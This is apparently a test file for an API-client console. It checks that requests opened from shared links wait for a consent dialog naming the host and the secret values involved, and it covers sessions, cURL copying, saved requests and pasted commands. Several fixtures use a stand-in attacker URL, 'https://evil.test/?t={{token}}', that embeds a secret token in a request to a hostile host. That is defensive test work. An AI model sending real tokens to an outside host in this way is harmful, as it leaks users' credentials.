import { fireEvent, screen, waitFor, within } from '@testing-library/react'
import { beforeEach, describe, expect, it, onTestFinished, vi } from 'vitest'
import { rowsOf } from './draft/field-rows'
import { type RequestDraft, startingDraft } from './draft/request-draft'
import { writeRequestLink } from './link/request-link'
import { answering, cleanUp, field, open, panel, stubDialogs, submit, type } from './testing/console'

cleanUp()
stubDialogs()

const environments = (rows: Record<string, string>) =>
  localStorage.setItem(
    'mockman.environments',
    JSON.stringify({ list: [{ id: 'e', name: 'Local', rows: rowsOf(Object.entries(rows)) }], activeId: 'e' }),
  )

beforeEach(() => {
  environments({ token: 's3cret', base: 'https://api.test' })
})

const link = (endpoint: string, change: Partial<RequestDraft> = {}) =>
  writeRequestLink({ ...startingDraft(endpoint), ...change })
const question = () => screen.findByRole('dialog', { name: 'Send your values?' })
const press = (name: string) => fireEvent.click(screen.getByRole('button', { name }))
const agree = async () => {
  await question()
  press('Send with these values')
}
const answered = (fetcher: ReturnType<typeof answering>, count: number) =>
  waitFor(() => {
    expect(fetcher).toHaveBeenCalledTimes(count)
    expect(within(panel('Response')).getByRole('status').textContent).toContain('200 OK')
  })
const sent = (fetcher: ReturnType<typeof answering>) => fetcher.mock.calls.map(([address]) => address)

describe('a request from a link', () => {
  it('is only sent after the user has seen host and names and consented', async () => {
    const fetcher = answering('{}')
    open(fetcher, { linkedRequest: link('https://evil.test/?t={{token}}') })
    submit()
    const dialog = await question()
    expect(dialog.textContent).toContain('https://evil.test')
    expect(dialog.textContent).toContain('gets the value of token')
    expect(dialog.textContent).not.toContain('s3cret')
    const cancel = within(dialog).getByRole('button', { name: 'Cancel' })
    await waitFor(() => expect(document.activeElement).toBe(cancel))
    press('Cancel')
    expect(screen.queryByRole('dialog')).toBeNull()
    expect(fetcher).not.toHaveBeenCalled()
    submit()
    await agree()
    await answered(fetcher, 1)
    expect(sent(fetcher)).toEqual(['https://evil.test/?t=s3cret'])
    submit()
    await answered(fetcher, 2)
  })

  it('asks again after a reload, an edit or a change of host', async () => {
    const fetcher = answering('{}')
    const { unmount } = open(fetcher, { linkedRequest: link('https://evil.test/?t={{token}}') })
    await waitFor(() => expect(localStorage.getItem('mockman.draft')).toContain('"link"'))
    unmount()
    open(fetcher)
    expect(screen.getByText(/^This request came from a link\./)).toBeTruthy()
    type('Header 1 value', 'text/html')
    submit()
    await agree()
    await answered(fetcher, 1)
    type('Endpoint', 'https://other.test/?t={{token}}')
    submit()
    expect((await question()).textContent).toContain('https://other.test')
    expect(fetcher).toHaveBeenCalledOnce()
  })

  it('keeps its origin in the history', async () => {
    const fetcher = answering('{}')
    open(fetcher, { linkedRequest: link('https://evil.test/') })
    submit()
    await waitFor(() => expect(localStorage.getItem('mockman.history')).toContain('"link"'))
    press('Undo')
    press('Library')
    fireEvent.click(await screen.findByRole('button', { name: /evil\.test/ }))
    type('Endpoint', 'https://evil.test/?t={{token}}')
    submit()
    await question()
    expect(fetcher).toHaveBeenCalledOnce()
  })

  it('shows the host with its variables filled in', async () => {
    open(answering('{}'), { linkedRequest: link('{{base}}.evil.test/{{token}}') })
    submit()
    const dialog = await question()
    expect(dialog.querySelector('mark')?.textContent).toBe('https://api.test.evil.test')
    expect(dialog.textContent).toContain('this address comes from base')
  })

  it('does not use the session without consent, even if the user chose it', async () => {
    const fetcher = answering('{}')
    open(fetcher, { session: { owner: 'Ada', token: 'abc' }, linkedRequest: link('/api/users') })
    fireEvent.click(screen.getByRole('tab', { name: 'Auth' }))
    type('Kind of authorization', 'session')
    submit()
    expect((await question()).textContent).toContain('gets your session')
    expect(fetcher).not.toHaveBeenCalled()
    press('Send with these values')
    await waitFor(() => expect(fetcher).toHaveBeenCalledOnce())
    expect(fetcher.mock.calls[0]?.[1]?.headers).toMatchObject({ Authorization: 'abc' })
  })

  it('needs the same consent to be copied as a command, which says what it contains', async () => {
    const writeText = vi.fn(async () => {})
    Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true })
    open(answering('{}'), { linkedRequest: link('https://evil.test/?t={{token}}') })
    press('More')
    press('Copy as cURL')
    await question()
    expect(writeText).not.toHaveBeenCalled()
    press('Copy with these values')
    expect(await screen.findByText('cURL with the value of token copied')).toBeTruthy()
    expect(writeText).toHaveBeenCalledWith(expect.stringContaining('s3cret'))
  })
})

it('a command is given to the clipboard at the press, before its writer has loaded, as Safari demands', async () => {
  class Item {
    readonly content: Record<string, Promise<Blob>>
    constructor(content: Record<string, Promise<Blob>>) {
      this.content = content
    }
  }
  const write = vi.fn(async (_items: Item[]) => {})
  Object.defineProperty(navigator, 'clipboard', { value: { write }, configurable: true })
  vi.stubGlobal('ClipboardItem', Item)
  onTestFinished(() => void vi.unstubAllGlobals())
  open(answering('{}'))
  press('More')
  press('Copy as cURL')
  expect(write).toHaveBeenCalledOnce()
  const blob = await write.mock.calls[0]?.[0][0]?.content['text/plain']
  expect(await blob?.text()).toMatch(/^curl /)
  expect(await screen.findByText('cURL copied')).toBeTruthy()
})

describe('a saved request', () => {
  it('stays someone else’s', async () => {
    open(answering('{}'), { linkedRequest: link('https://evil.test/?t={{token}}') })
    press('More')
    press('Save…')
    await screen.findByRole('dialog', { name: 'Save request' })
    press('Save')
    await waitFor(() => expect(localStorage.getItem('mockman.collections')).toContain('"origin":"link"'))
  })
})

describe('a pasted cURL command', () => {
  it('counts as typed by the user and says so', async () => {
    const fetcher = answering('{}')
    open(fetcher)
    fireEvent.paste(field('Endpoint'), {
      clipboardData: { getData: () => 'curl https://api.test/?t={{token}}' },
    })
    expect(
      await screen.findByText(
        'Filled from a cURL command. It counts as typed by you: Submit fills in token.',
      ),
    ).toBeTruthy()
    submit()
    await waitFor(() => expect(sent(fetcher)).toEqual(['https://api.test/?t=s3cret']))
  })
})
